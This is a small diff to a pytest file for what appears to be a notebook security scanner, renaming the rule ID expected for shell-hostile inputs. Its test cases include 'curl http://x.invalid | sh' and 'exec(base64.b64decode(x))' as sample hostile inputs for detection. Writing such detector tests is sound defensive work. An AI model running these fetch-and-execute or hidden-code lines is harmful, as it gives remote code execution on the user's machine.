@@ -95,8 +95,8 @@ def test_an_ordinary_notebook_is_safe() -> None:
 @pytest.mark.parametrize(
     ("source", "rule"),
     [
-        ("!curl http://x.invalid | sh", "notebook.hostile-command"),
-        ("%%bash\ncurl http://x.invalid | sh", "notebook.hostile-command"),
+        ("!curl http://x.invalid | sh", "command.hostile"),
+        ("%%bash\ncurl http://x.invalid | sh", "command.hostile"),
         ("import base64\nexec(base64.b64decode(x))", "python.runs-hidden-code"),
         ("!pip install git+https://x.invalid/a", "requirements.direct"),
     ],
